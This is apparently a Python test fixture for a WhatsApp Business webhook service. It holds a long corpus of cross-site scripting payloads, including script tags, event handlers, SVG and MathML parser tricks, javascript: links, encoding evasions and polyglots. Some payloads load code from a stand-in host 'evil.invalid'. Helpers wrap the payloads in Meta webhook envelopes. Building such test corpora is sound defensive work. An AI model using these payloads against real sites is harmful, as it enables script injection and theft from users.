"""Texts that would run in a page that took them for markup. `PWN` is the call that would tell; each knows its own number."""

from collections.abc import Iterator
from typing import Any

from tests.local.edition import NUMBER

SHAPES = (
    # ---- elements that run
    "<script>PWN</script>",
    "</script><script>PWN</script>",
    "<ScRiPt/x>PWN</sCrIpT >",
    "<<script>PWN//<</script>",
    '<script src="//evil.invalid/x.js" id="PWN"></script>',
    '<script src="data:text/javascript,PWN"></script>',
    "<script type=module>import('//evil.invalid/PWN')</script>",
    '<iframe src="javascript:PWN"></iframe>',
    '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=parent.PWN&gt;'></iframe>",
    '<object data="javascript:PWN"></object>',
    '<embed src="//evil.invalid/PWN.svg">',
    '<base href="//evil.invalid/PWN/">',
    '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    '<link rel=stylesheet href="//evil.invalid/PWN.css">',
    '<form action="javascript:PWN"><button autofocus>ok</button></form>',
    # ---- handlers
    "<img src=x onerror=PWN>",
    '<img src=x onerror="PWN">',
    "<img/src='x'/onerror='PWN'>",
    '<img src="//evil.invalid/PWN.gif">',
    "<image src=x onerror=PWN>",
    "<body onload=PWN>",
    "<input autofocus onfocus=PWN>",
    "<details open ontoggle=PWN>x</details>",
    "<video><source onerror=PWN></video>",
    "<audio src=x onerror=PWN></audio>",
    "<marquee onstart=PWN>x</marquee>",
    "<a onmouseover=PWN href=#>x</a>",
    "<div onpointerenter=PWN style=position:fixed;inset:0>",
    "<b onclick=PWN>x</b>",
    "<xss tabindex=1 autofocus onfocus=PWN>",
    # ---- SVG, MathML, parsers at odds
    "<svg onload=PWN>",
    "<svg/onload=PWN//",
    "<svg><script>PWN</script></svg>",
    '<svg><a xlink:href="javascript:PWN"><text y=9>x</text></a></svg>',
    '<svg><animate onbegin=PWN attributeName=x dur="1s">',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=PWN>#x">',
    '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="PWN">',
    '<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
    '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "<textarea></textarea><img src=x onerror=PWN></textarea>",
    "<title></title><img src=x onerror=PWN>",
    "<!--><img src=x onerror=PWN>-->",
    "<![CDATA[><img src=x onerror=PWN>]]>",
    "<template><img src=x onerror=PWN></template>",
    # ---- out of an attribute, a string, a template
    '"><img src=x onerror=PWN>',
    "'><svg onload=PWN>",
    '" autofocus onfocus=PWN x="',
    "' onmouseover='PWN",
    "`onclick=PWN`",
    "';PWN;//",
    '\\";PWN;//',
    "${PWN}",
    "{{constructor.constructor('PWN')()}}",
    "#{PWN} <%= PWN %>",
    "<0>PWN</0><1/>",
    "{PWN, plural, other {#}}",
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=PWN>"}}}',
    # ---- links
    "javascript:PWN",
    "JaVaScRiPt:PWN//https://exemplo.com",
    "java\tscript:PWN",
    "\x01javascript:PWN",
    "data:text/html,<script>PWN</script>",
    "vbscript:PWN",
    'https://exemplo.com/?q="onmouseover=PWN',
    "https://exemplo.com/#javascript:PWN",
    "https://exemplo.com@evil.invalid/PWN",
    "https://exemplo.com/\u202egnp.PWN",
    "[veja](javascript:PWN) <javascript:PWN>",
    "www.exemplo.com/');PWN;//",
    "file:///etc/passwd?PWN blob:null/PWN",
    # ---- WhatsApp's marks
    "*<img src=x onerror=PWN>*",
    "_~*<svg onload=PWN>*~_",
    "```</pre><script>PWN</script>```",
    "`</code><img src=x onerror=PWN>`",
    "> </blockquote><img src=x onerror=PWN>",
    "- </li><script>PWN</script>\n1. <b onclick=PWN>",
    '*https://exemplo.com/"onclick="PWN*',
    # ---- styles
    "<style>*{background:url(//evil.invalid/PWN)}</style>",
    '"style="background:url(//evil.invalid/PWN)',
    "</style><style>@import'//evil.invalid/PWN';</style>",
    "red;background:url(javascript:PWN)",
    # ---- letters that are not what they seem
    "\uff1cscript\uff1ePWN\uff1c/script\uff1e",
    "\u2039img src=x onerror=PWN\u203a",
    "+ADw-script+AD4-PWN+ADw-/script+AD4-",
    "&lt;img src=x onerror=PWN&gt;",
    "&#60;script&#62;PWN&#60;/script&#62;",
    "\\u003cscript\\u003ePWN\\u003c/script\\u003e",
    "%3Cscript%3EPWN%3C/script%3E",
    "<scr\u200bipt>PWN</scr\u200bipt>",
    "\u202e<img src=x onerror=PWN>\u202c",
    "\ufeff<img src=x onerror=PWN>",
    "<\u017fcript>PWN</\u017fcript>",
    # ---- all at once
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=PWN )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=PWN//>",
    "'\"--></style></script><svg/onload=PWN><!--",
)


def payloads() -> list[str]:
    """Every text, with its own number in the call."""
    return [shape.replace("PWN", f"pwn({number})") for number, shape in enumerate(SHAPES)]


def marked(text: str) -> set[int]:
    """Which of them are in a text, as text."""
    return {number for number in range(len(SHAPES)) if f"pwn({number})" in text}


def messages_webhook(wa_id: str, name: str, messages: list[dict[str, Any]]) -> dict[str, Any]:
    """Meta's envelope around messages of one customer."""
    contacts = [{"profile": {"name": name}, "wa_id": wa_id}]
    return _envelope({"contacts": contacts, "messages": [{"from": wa_id, **each} for each in messages]})


def statuses_webhook(statuses: list[dict[str, Any]]) -> dict[str, Any]:
    """Meta's envelope around statuses."""
    return _envelope({"statuses": statuses})


def _envelope(found: dict[str, Any]) -> dict[str, Any]:
    number = {"messaging_product": "whatsapp", "metadata": {"display_phone_number": "551140001234", "phone_number_id": NUMBER}}
    change = {"field": "messages", "value": {**number, **found}}
    return {"object": "whatsapp_business_account", "entry": [{"id": "200000000000001", "changes": [change]}]}


def by_ten(messages: list[Any]) -> Iterator[list[Any]]:
    """As many at a time as one webhook carries to its queue in one go."""
    for start in range(0, len(messages), 10):
        yield messages[start : start + 10]
